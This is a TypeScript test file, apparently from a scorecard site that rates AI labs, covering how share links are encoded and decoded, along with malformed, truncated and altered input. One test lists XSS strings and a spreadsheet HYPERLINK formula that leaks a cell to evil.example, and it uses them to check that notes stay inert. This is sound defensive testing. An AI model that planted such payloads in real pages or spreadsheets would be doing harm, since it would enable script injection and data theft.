import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { MAX_SHARE_LENGTH, encodeShare, shareChecksum, shareFragmentFromHash } from '../../src/rubric/codec';
import { decodeShare, describeUnknownKeys } from '../../src/rubric/share-decode';
import type { DecodeResult } from '../../src/rubric/codec';
import {
  emptyScorecard,
  getCell,
  setConfidence,
  setLevel,
  setNote,
  setWeight,
} from '../../src/rubric/scorecard';
import {
  LEVELS,
  type Confidence,
  type RubricFrame,
  type Scorecard,
  type Weight,
} from '../../src/rubric/types';
import { frameAndCard } from './fixtures/arbitraries';
import { frame } from './fixtures/frame';

const UNRESERVED = /^[A-Za-z0-9._~-]*$/;

function payloadOf(fragment: string): string {
  const payload = shareFragmentFromHash(`#${fragment}`);
  if (payload === null) throw new Error(`not a share fragment: ${fragment}`);
  return payload;
}

function decoded(fragment: string, rubric: RubricFrame = frame): Scorecard {
  const result = decodeShare(fragment, rubric);
  if (!result.ok) throw new Error(`expected a card, got ${result.error.kind}`);
  return result.card;
}

function errorKind(result: DecodeResult): string {
  return result.ok ? 'ok' : result.error.kind;
}

/** Every cell scored with a confidence, and no weight left at its default. */
function fullCard(): Scorecard {
  const confidences: Confidence[] = ['low', 'medium', 'high'];
  const weights: Weight[] = [0, 2, 3];
  let card = emptyScorecard();
  frame.labs.forEach((lab, labIndex) => {
    frame.analogies.forEach((analogy, analogyIndex) => {
      card = setLevel(card, lab.id, analogy.id, LEVELS[(labIndex + analogyIndex) % LEVELS.length]!);
      card = setConfidence(card, lab.id, analogy.id, confidences[(labIndex * 2 + analogyIndex) % 3] ?? 'low');
    });
  });
  frame.analogies.forEach((analogy, index) => {
    card = setWeight(card, analogy.id, weights[index % 3] ?? 0);
  });
  return card;
}

describe('share links', () => {
  it('encode an empty scorecard as just the version', () => {
    expect(encodeShare(emptyScorecard(), frame)).toBe(`share=v2.~${shareChecksum('v2')}`);
    expect(decoded(encodeShare(emptyScorecard(), frame))).toEqual(emptyScorecard());
    expect(decoded('share=v1')).toEqual(emptyScorecard());
  });

  it('encode cells by share key with one character for level and confidence', () => {
    let card = setLevel(emptyScorecard(), 'openai', 'opacity', 3);
    card = setLevel(card, 'openai', 'deception', 1);
    card = setConfidence(card, 'openai', 'deception', 'high');
    card = setWeight(card, 'power-seeking', 2);
    const body = 'v2.oaop3deN._ps2';
    expect(encodeShare(card, frame)).toBe(`share=${body}.~${shareChecksum(body)}`);
  });

  it('round-trip a full scorecard and keep it well under 200 characters', () => {
    const card = fullCard();
    const fragment = encodeShare(card, frame);
    expect(fragment.length).toBeLessThan(200);
    expect(fragment.length).toBeLessThanOrEqual(150);
    expect(decoded(fragment)).toEqual(card);
  });

  it('round-trip any scorecard over any frame, notes included', () => {
    fc.assert(
      fc.property(frameAndCard, ({ frame: rubric, card }) => {
        const fragment = encodeShare(card, rubric, { notes: true });
        expect(decodeShare(fragment, rubric)).toEqual({ ok: true, card, unknown: [], checked: true });
      }),
      { numRuns: 300 },
    );
  });

  it('use only unreserved URL characters in the payload', () => {
    fc.assert(
      fc.property(frameAndCard, ({ frame: rubric, card }) => {
        const fragment = encodeShare(card, rubric);
        expect(fragment.startsWith('share=v2')).toBe(true);
        expect(payloadOf(fragment)).toMatch(UNRESERVED);
        expect(fragment.endsWith('.')).toBe(false);
      }),
    );
  });

  it('keep hostile notes as inert text that round-trips exactly', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
      "javascript:alert('x') & ' \" ` ${x} {{x}}",
      'Ünïcödé ✓ 🙂👩🏽‍🔬 中文 עברית',
    ];
    for (const note of hostile) {
      const card = setNote(setLevel(emptyScorecard(), 'meta', 'opacity', 2), 'meta', 'opacity', note);
      const fragment = encodeShare(card, frame, { notes: true });
      expect(payloadOf(fragment)).toMatch(UNRESERVED);
      expect(getCell(decoded(fragment), 'meta', 'opacity').note).toBe(note);
    }
  });

  it('leave notes out unless asked to include them', () => {
    const card = setNote(
      setLevel(emptyScorecard(), 'meta', 'opacity', 2),
      'meta',
      'opacity',
      'long thoughts',
    );
    expect(encodeShare(card, frame)).toBe(
      encodeShare(setLevel(emptyScorecard(), 'meta', 'opacity', 2), frame),
    );
    expect(getCell(decoded(encodeShare(card, frame)), 'meta', 'opacity').note).toBeUndefined();
    expect(getCell(decoded(encodeShare(card, frame, { notes: true })), 'meta', 'opacity').note).toBe(
      'long thoughts',
    );
    const noteOnly = setNote(emptyScorecard(), 'meta', 'opacity', 'just a note');
    expect(encodeShare(noteOnly, frame)).toBe(encodeShare(emptyScorecard(), frame));
  });

  it('survive labs and analogies being reordered or added', () => {
    const card = fullCard();
    const fragment = encodeShare(card, frame);
    const changed: RubricFrame = {
      labs: [{ id: 'xai', key: 'xa', name: 'xAI' }, ...[...frame.labs].reverse()],
      analogies: [...frame.analogies].reverse(),
    };
    expect(decoded(fragment, changed)).toEqual(card);
  });

  it('report labs and analogies the page does not know and keep the rest', () => {
    const result = decodeShare('share=v1.zzmi3.oami2qq4._qq3zz2', frame);
    expect(result).toEqual({
      ok: true,
      card: setLevel(emptyScorecard(), 'openai', 'misaligned-incentives', 2),
      unknown: ['lab:zz', 'analogy:qq', 'analogy:zz'],
      checked: false,
    });
    expect(describeUnknownKeys(['lab:zz', 'analogy:qq', 'analogy:zz'])).toBe(
      'The link also scores one lab and 2 analogies that this site does not list (perhaps added by a newer version of it); those scores were left out.',
    );
  });

  it('accept the payload alone, the fragment, or the whole hash', () => {
    const card = fullCard();
    const fragment = encodeShare(card, frame);
    expect(decoded(fragment)).toEqual(card);
    expect(decoded(`#${fragment}`)).toEqual(card);
    expect(decoded(payloadOf(fragment))).toEqual(card);
  });

  it('read links whose characters a chat app percent-escaped', () => {
    expect(decoded('share=v1.oa%6Di3')).toEqual(
      setLevel(emptyScorecard(), 'openai', 'misaligned-incentives', 3),
    );
  });

  it('tell an empty link, a foreign link and a link from another version apart', () => {
    expect(errorKind(decodeShare('', frame))).toBe('empty');
    expect(errorKind(decodeShare('#share=', frame))).toBe('empty');
    expect(errorKind(decodeShare('share=hello', frame))).toBe('not-a-scorecard');
    expect(errorKind(decodeShare('share=v3.oami3', frame))).toBe('unknown-version');
    expect(errorKind(decodeShare('share=v10', frame))).toBe('unknown-version');
  });

  it('explain each failure in a sentence', () => {
    const result = decodeShare('share=v3', frame);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toMatch(/different version of this site.*\.$/);
  });

  it('refuse links longer than the cap without reading them', () => {
    expect(errorKind(decodeShare(`share=v1.${'oami3'.repeat(MAX_SHARE_LENGTH / 5)}`, frame))).toBe(
      'too-long',
    );
  });

  it('reject damaged links as malformed', () => {
    const damaged = [
      'share=v1.oam', // cut inside a cell
      'share=v1.oamiZ', // not a cell character
      'share=v1.OAmi3', // keys are lowercase
      'share=v1._mi7', // weights stop at 3
      'share=v1._', // an empty weights group
      'share=v1.-oami', // a note with no text
      'share=v1.-oa', // note cut inside its keys
      'share=v1.-oamiA', // base64 one character long
      'share=v1.-oami_w', // bytes that are not UTF-8
      'share=v1.-oami+w', // not base64url
      'share=v1.oa%mi3', // a broken escape
    ];
    const kinds = damaged.map((fragment) => [fragment, errorKind(decodeShare(fragment, frame))]);
    expect(kinds).toEqual(damaged.map((fragment) => [fragment, 'malformed']));
  });

  it('never throw, whatever the input', () => {
    const fragment = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc
        .string({ unit: fc.constantFrom(...'v1.oamiANps_-~%023'.split('')) })
        .map((rest) => `share=v1.${rest}`),
      fc
        .webUrl({ withFragments: true, withQueryParameters: true })
        .map((url) => url.slice(url.indexOf('#') + 1)),
    );
    fc.assert(
      fc.property(fragment, (input) => {
        const result = decodeShare(input, frame);
        expect(typeof result.ok).toBe('boolean');
        if (!result.ok) expect(result.error.message.length).toBeGreaterThan(10);
      }),
      { numRuns: 2000 },
    );
  });

  it('never throw on cut or altered links, and only ever produce a card that re-encodes stably', () => {
    const mutation = fc.oneof(
      fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
      fc.record({
        kind: fc.constant('flip' as const),
        at: fc.nat(),
        char: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
      }),
      fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
    );
    fc.assert(
      fc.property(
        frameAndCard,
        fc.array(mutation, { minLength: 1, maxLength: 4 }),
        ({ frame: rubric, card }, mutations) => {
          let fragment = encodeShare(card, rubric, { notes: true });
          for (const change of mutations) {
            const at = change.at % (fragment.length + 1);
            if (change.kind === 'truncate') fragment = fragment.slice(0, at);
            else if (change.kind === 'delete') fragment = fragment.slice(0, at) + fragment.slice(at + 1);
            else fragment = fragment.slice(0, at) + change.char + fragment.slice(at + 1);
          }
          const result = decodeShare(fragment, rubric);
          if (result.ok)
            expect(decodeShare(encodeShare(result.card, rubric, { notes: true }), rubric)).toEqual({
              ok: true,
              card: result.card,
              unknown: [],
              checked: true,
            });
          else
            expect([
              'empty',
              'not-a-scorecard',
              'unknown-version',
              'malformed',
              'truncated',
              'too-long',
            ]).toContain(result.error.kind);
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe('share links as chat apps and time treat them', () => {
  const fixture = JSON.parse(readFileSync('tests/unit/fixtures/share-link-v1.json', 'utf8')) as {
    link: string;
    card: Scorecard;
  };

  it('open a link made before the checksum existed, notes and all', () => {
    const result = decodeShare(new URL(fixture.link).hash, frame);
    expect(result).toEqual({ ok: true, card: fixture.card, unknown: [], checked: false });
  });

  it('tolerate what chat apps, sentences and trackers add to a link', () => {
    const card = fullCard();
    const fragment = encodeShare(card, frame);
    for (const decorated of [
      `${fragment}.`,
      `${fragment})`,
      `${fragment}).`,
      `${fragment}&utm_source=newsletter&utm_medium=email`,
      `${fragment}?ref=chat`,
      `  ${fragment}\n`,
      fragment.replace('.oa', '.%6Fa'),
      `https://example.org/scorecard/#${fragment}!`,
      `${new URL(fixture.link).hash}.`,
    ]) {
      const result = decodeShare(decorated, frame);
      expect(result.ok, decorated).toBe(true);
    }
    expect(decoded(`${new URL(fixture.link).hash})`)).toEqual(fixture.card);
  });

  it('refuse a link cut anywhere, even right after a complete cell', () => {
    const card = fullCard();
    const fragment = encodeShare(setNote(card, 'meta', 'opacity', 'a private thought'), frame, {
      notes: true,
    });
    for (let end = 'share=v2.'.length; end < fragment.length; end += 1) {
      const result = decodeShare(fragment.slice(0, end), frame);
      expect(result.ok, fragment.slice(0, end)).toBe(false);
    }
    // Cut after a complete lab row: the old format would have read a smaller card.
    const cut = fragment.slice(0, fragment.indexOf('.', 'share=v2.'.length));
    expect(errorKind(decodeShare(cut, frame))).toBe('truncated');
  });

  it('refuse a link whose check does not match its content', () => {
    const fragment = encodeShare(setLevel(emptyScorecard(), 'openai', 'opacity', 3), frame);
    expect(errorKind(decodeShare(fragment.replace('oaop3', 'oaop4'), frame))).toBe('truncated');
  });
});

describe('shareFragmentFromHash', () => {
  it('returns the payload of a share hash', () => {
    expect(shareFragmentFromHash('#share=v1.oami3')).toBe('v1.oami3');
    expect(shareFragmentFromHash('#share=')).toBe('');
  });

  it('ignores ordinary section anchors and empty hashes', () => {
    expect(shareFragmentFromHash('#openai')).toBeNull();
    expect(shareFragmentFromHash('#shared-notes')).toBeNull();
    expect(shareFragmentFromHash('')).toBeNull();
  });
});
